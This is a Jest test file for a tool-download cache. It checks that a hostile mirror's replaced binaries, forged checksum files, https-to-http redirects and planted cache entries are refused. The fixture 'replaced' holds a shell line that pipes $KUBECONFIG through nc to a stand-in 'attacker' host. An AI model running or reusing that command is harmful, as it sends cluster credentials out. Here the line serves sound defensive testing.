// The file cache against two loopback peers: an http "mirror" that serves bytes (and, when hostile,
// replaced bytes with matching checksum files) and an https "upstream host" with its own certificate
// that publishes the real checksum files.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { FileCacheDownloads } from '../../../src/adapters/downloads/file-cache.js'
import { createToolCacheDownloads } from '../../../src/adapters/downloads/tool-cache.js'
import { findChecksum } from '../../../src/adapters/downloads/checksum.js'
import type { ArtifactRequest, DigestCatalog } from '../../../src/adapters/downloads/types.js'

const payload = Buffer.from('#!/bin/sh\necho fake talosctl\n')
const replaced = Buffer.from('#!/bin/sh\necho owned; cat "$KUBECONFIG" | nc attacker 1\n')
const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex')
let mirror: Server
let upstream: HttpsServer
let mirrorBase: string
let upstreamBase: string
let ca: string
let root: string
let hostile = false
const hits: string[] = []

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'dl-'))
  const certDir = join(root, 'tls')
  await mkdir(certDir)
  execFileSync(
    'openssl',
    [
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:prime256v1',
      '-nodes',
      '-days',
      '1',
      '-subj',
      '/CN=127.0.0.1',
      '-addext',
      'subjectAltName=IP:127.0.0.1',
      '-keyout',
      join(certDir, 'key.pem'),
      '-out',
      join(certDir, 'cert.pem')
    ],
    { stdio: 'ignore' }
  )
  ca = await readFile(join(certDir, 'cert.pem'), 'utf8')
  mirror = createServer((req, res) => {
    hits.push(req.url ?? '')
    const body = hostile ? replaced : payload
    if (req.url === '/rel/talosctl-linux-arm64') return res.end(body)
    // What a hostile mirror adds: checksum files that match its own bytes.
    if (req.url === '/rel/sha256sum.txt') return res.end(`${sha(body)}  talosctl-linux-arm64\n`)
    if (req.url === '/redirect') {
      res.writeHead(302, { location: '/rel/talosctl-linux-arm64' })
      return res.end()
    }
    res.writeHead(404)
    res.end()
  })
  await new Promise<void>((r) => mirror.listen(0, '127.0.0.1', () => r()))
  mirrorBase = `http://127.0.0.1:${(mirror.address() as { port: number }).port}`
  const onUpstream = (req: IncomingMessage, res: ServerResponse): void => {
    hits.push(`upstream ${req.url}`)
    if (req.url === '/rel/sha256sum.txt')
      return void res.end(`${'0'.repeat(64)}  talosctl-linux-amd64\n${sha(payload)}  _out/talosctl-linux-arm64\n`)
    if (req.url === '/rel/talosctl-linux-arm64') return void res.end(payload)
    if (req.url === '/downgrade') {
      res.writeHead(302, { location: `${mirrorBase}/rel/talosctl-linux-arm64` })
      return void res.end()
    }
    res.writeHead(404)
    res.end()
  }
  upstream = createHttpsServer({ key: await readFile(join(certDir, 'key.pem')), cert: ca }, onUpstream)
  await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()))
  upstreamBase = `https://127.0.0.1:${(upstream.address() as { port: number }).port}`
})
afterAll(async () => {
  await new Promise<void>((r) => mirror.close(() => r()))
  await new Promise<void>((r) => upstream.close(() => r()))
  await rm(root, { recursive: true, force: true })
})

const UPSTREAM_FILE = (): string => `${upstreamBase}/rel/talosctl-linux-arm64`
/** talosctl through the mirror; its digest comes from the upstream host's sums file unless overridden. */
const req = (over: Partial<ArtifactRequest> = {}): ArtifactRequest => ({
  tool: 'talosctl',
  version: '1.9.0',
  arch: 'arm64',
  fileName: 'talosctl-linux-arm64',
  executable: true,
  url: `${mirrorBase}/rel/talosctl-linux-arm64`,
  upstream: UPSTREAM_FILE(),
  checksum: { sumsUrl: `${upstreamBase}/rel/sha256sum.txt`, sumsEntry: 'talosctl-linux-arm64' },
  ...over
})
const cache = (catalog: DigestCatalog = {}, warnings: string[] = []): FileCacheDownloads =>
  new FileCacheDownloads({ root, catalog, ca, warn: (m) => warnings.push(m) })
const dirOf = (version: string): string => join(root, 'talosctl', version, 'arm64')

describe('FileCacheDownloads: where the expected digest comes from', () => {
  test('the upstream checksum file over https vouches for mirror bytes; cached in the tool-cache layout', async () => {
    const got = await cache().fetch(req())
    expect(got).toEqual({
      path: join(dirOf('1.9.0'), 'talosctl-linux-arm64'),
      sha256: sha(payload),
      bytes: payload.length,
      downloaded: true
    })
    expect(existsSync(`${dirOf('1.9.0')}.complete`)).toBe(true)
    expect((await stat(got.path)).mode & 0o777).toBe(0o755)
    expect(hits).toContain('upstream /rel/sha256sum.txt')
    expect(hits).not.toContain('/rel/sha256sum.txt')
  })

  test('the catalog entry for the upstream URL is used without reading any checksum file', async () => {
    hits.length = 0
    const got = await cache({ [UPSTREAM_FILE()]: { sha256: sha(payload), source: 'test' } }).fetch(
      req({ version: '1.9.10' })
    )
    expect(got.sha256).toBe(sha(payload))
    expect(hits).toEqual(['/rel/talosctl-linux-arm64'])
  })

  test('a hostile mirror serving a replaced tool with a matching .sha256 is refused, naming file, expected and actual digest', async () => {
    hostile = true
    try {
      const error = await cache({ [UPSTREAM_FILE()]: { sha256: sha(payload), source: 'test catalog' } })
        .fetch(req({ version: '1.9.11' }))
        .catch((e: Error) => e)
      expect(error).toMatchObject({ code: 'ChecksumMismatch' })
      expect((error as Error).message).toBe(
        `talosctl talosctl-linux-arm64 from ${mirrorBase}/rel/talosctl-linux-arm64: sha256 is ${sha(replaced)}, expected ${sha(payload)} (from the digest catalog (test catalog)); the download was discarded`
      )
      // Same with no catalog entry: the digest is read from the upstream host, never the mirror's sums.
      await expect(cache().fetch(req({ version: '1.9.12' }))).rejects.toMatchObject({
        code: 'ChecksumMismatch',
        message: expect.stringContaining(`expected ${sha(payload)} (from ${upstreamBase}/rel/sha256sum.txt)`)
      })
      expect(existsSync(`${dirOf('1.9.11')}.complete`)).toBe(false)
      expect(await readdir(join(root, 'talosctl', '1.9.11'))).toEqual([])
    } finally {
      hostile = false
    }
  })

  test('a checksum file that is not an https upstream URL is refused before any download', async () => {
    hits.length = 0
    await expect(
      cache().fetch(
        req({
          version: '1.9.13',
          checksum: { sumsUrl: `${mirrorBase}/rel/sha256sum.txt`, sumsEntry: 'talosctl-linux-arm64' }
        })
      )
    ).rejects.toMatchObject({ code: 'UntrustedChecksum' })
    expect(hits).toEqual([])
  })

  test('nothing to vouch for the bytes (no pin, no catalog digest, no upstream sums) is refused, saying how to fix it', async () => {
    const unpinned = { [UPSTREAM_FILE()]: { source: 'not available offline' } }
    await expect(cache(unpinned).fetch(req({ version: '1.9.14', checksum: undefined }))).rejects.toMatchObject({
      code: 'Unverified',
      message: expect.stringMatching(
        /not in the digest catalog \(not available offline\).*pin its sha256 in the cluster file/
      )
    })
  })

  test('a pin in the cluster file never overrides the catalog: a different one is refused before any download', async () => {
    hits.length = 0
    const other = req({ version: '1.9.1', checksum: { sha256: 'f'.repeat(64) } })
    await expect(
      cache({ [UPSTREAM_FILE()]: { sha256: sha(payload), source: 'test' } }).fetch(other)
    ).rejects.toMatchObject({
      code: 'PinConflict',
      message: `talosctl talosctl-linux-arm64 (${UPSTREAM_FILE()}): the sha256 pinned in the cluster file (${'f'.repeat(64)}) differs from the digest catalog's (${sha(payload)}); remove the pin or correct it`
    })
    expect(hits).toEqual([])
    // The same digest in both is fine.
    const same = await cache({ [UPSTREAM_FILE()]: { sha256: sha(payload), source: 'test' } }).fetch(
      req({ version: '1.9.3', checksum: { sha256: sha(payload).toUpperCase() } })
    )
    expect(same.sha256).toBe(sha(payload))
  })

  test('a user pin vouches where the catalog cannot, and a pin mismatch leaves nothing in the cache', async () => {
    const bad = req({ version: '1.9.1', checksum: { sha256: 'f'.repeat(64) } })
    await expect(cache({ [UPSTREAM_FILE()]: { source: 'not available offline' } }).fetch(bad)).rejects.toMatchObject({
      code: 'ChecksumMismatch',
      message: expect.stringContaining(
        `sha256 is ${sha(payload)}, expected ${'f'.repeat(64)} (from the sha256 pinned in the cluster file)`
      )
    })
    expect(await readdir(join(root, 'talosctl/1.9.1'))).toEqual([])
  })

  test('a sums file without the entry refuses an unverified download', async () => {
    await expect(
      cache().fetch(
        req({ version: '1.9.2', checksum: { sumsUrl: `${upstreamBase}/rel/sha256sum.txt`, sumsEntry: 'other' } })
      )
    ).rejects.toMatchObject({ code: 'ChecksumMissing' })
  })

  test('an image without any digest is taken on first use only straight from the upstream https host, never from a mirror', async () => {
    const image = { checksum: undefined, firstUseOverHttps: true }
    await expect(cache().fetch(req({ version: '1.9.15', ...image }))).rejects.toMatchObject({ code: 'Unverified' })
    const direct = await cache().fetch(req({ version: '1.9.16', ...image, url: UPSTREAM_FILE() }))
    expect(direct).toMatchObject({ sha256: sha(payload), downloaded: true })
  })
})

describe('FileCacheDownloads: redirects', () => {
  test('follows a redirect on the same scheme', async () => {
    const got = await cache().fetch(req({ version: '1.9.3', url: `${mirrorBase}/redirect` }))
    expect(got.sha256).toBe(sha(payload))
  })

  test('refuses a redirect from https to http', async () => {
    await expect(cache().fetch(req({ version: '1.9.17', url: `${upstreamBase}/downgrade` }))).rejects.toMatchObject({
      code: 'InsecureRedirect',
      message: expect.stringContaining(`redirected to ${mirrorBase}/rel/talosctl-linux-arm64`)
    })
  })
})

describe('FileCacheDownloads: cache hits are verified', () => {
  const catalog = (): DigestCatalog => ({ [UPSTREAM_FILE()]: { sha256: sha(payload), source: 'test' } })

  test('a verified entry is served from its record without a download or a checksum read', async () => {
    await cache(catalog()).fetch(req({ version: '1.9.20' }))
    hits.length = 0
    const again = await cache(catalog()).fetch(req({ version: '1.9.20' }))
    expect(again).toMatchObject({ downloaded: false, sha256: sha(payload) })
    expect(hits).toEqual([])
  })

  test('a planted tool-cache entry (own .sha256 sidecar, own record) is refused with a warning and fetched again', async () => {
    const dir = dirOf('1.9.21')
    await mkdir(dir, { recursive: true })
    await writeFile(join(dir, 'talosctl-linux-arm64'), replaced, { mode: 0o755 })
    await writeFile(join(dir, 'talosctl-linux-arm64.sha256'), `${sha(replaced)}\n`)
    const info = await stat(join(dir, 'talosctl-linux-arm64'))
    await writeFile(
      join(dir, 'talosctl-linux-arm64.verified'),
      JSON.stringify({ sha256: sha(replaced), size: info.size, mtimeMs: info.mtimeMs })
    )
    await writeFile(`${dir}.complete`, '')
    hits.length = 0
    const warnings: string[] = []
    const got = await cache(catalog(), warnings).fetch(req({ version: '1.9.21' }))
    expect(got).toMatchObject({ downloaded: true, sha256: sha(payload) })
    expect(await readFile(got.path)).toEqual(payload)
    expect(hits).toEqual(['/rel/talosctl-linux-arm64'])
    expect(warnings).toEqual([
      `cached talosctl ${join(dir, 'talosctl-linux-arm64')} has sha256 ${sha(replaced)}, expected ${sha(payload)} (from the digest catalog (test)); discarded, downloading it again`
    ])
  })

  test('a file replaced after it was verified (size or mtime differ from the record) is hashed again and refused', async () => {
    const first = await cache(catalog()).fetch(req({ version: '1.9.22' }))
    await writeFile(first.path, replaced)
    await utimes(first.path, new Date(), new Date(Date.now() + 5000))
    const warnings: string[] = []
    const got = await cache(catalog(), warnings).fetch(req({ version: '1.9.22' }))
    expect(got.downloaded).toBe(true)
    expect(warnings).toHaveLength(1)
  })

  test('a good file without a record (an older cache) is hashed once and then trusted from its record', async () => {
    const first = await cache(catalog()).fetch(req({ version: '1.9.23' }))
    await rm(`${first.path}.verified`)
    const again = await cache(catalog()).fetch(req({ version: '1.9.23' }))
    expect(again.downloaded).toBe(false)
    expect(JSON.parse(await readFile(`${first.path}.verified`, 'utf8'))).toMatchObject({
      sha256: sha(payload),
      size: payload.length
    })
  })

  test('refuses a non-semver cache key', async () => {
    await expect(cache().fetch(req({ version: 'v1.31.3+k3s1' }))).rejects.toMatchObject({ code: 'BadCacheKey' })
  })

  test('the tool-cache front verifies what the file cache stored (same layout) and refuses a planted one', async () => {
    await cache(catalog()).fetch(req({ version: '1.9.4' }))
    hits.length = 0
    const front = createToolCacheDownloads({ toolCache: root, tempDir: root, catalog: catalog() })
    expect(await front.fetch(req({ version: '1.9.4' }))).toMatchObject({ downloaded: false, sha256: sha(payload) })
    expect(hits).toEqual([])
    await writeFile(join(dirOf('1.9.4'), 'talosctl-linux-arm64'), replaced)
    expect(await front.fetch(req({ version: '1.9.4' }))).toMatchObject({ downloaded: true, sha256: sha(payload) })
  })
})

describe('findChecksum', () => {
  test('reads a bare kubectl .sha256 digest', () => {
    expect(findChecksum(`${'a'.repeat(64)}\n`)).toBe('a'.repeat(64))
  })
  test('matches helm-style "<hex>  <name>" on the basename', () => {
    expect(findChecksum(`${'B'.repeat(64)}  helm-v3.16.0-linux-arm64.tar.gz`, 'helm-v3.16.0-linux-arm64.tar.gz')).toBe(
      'b'.repeat(64)
    )
  })
  test('undefined when the entry is missing', () => {
    expect(findChecksum(`${'a'.repeat(64)}  k3s`, 'k3s-arm64')).toBeUndefined()
  })
})
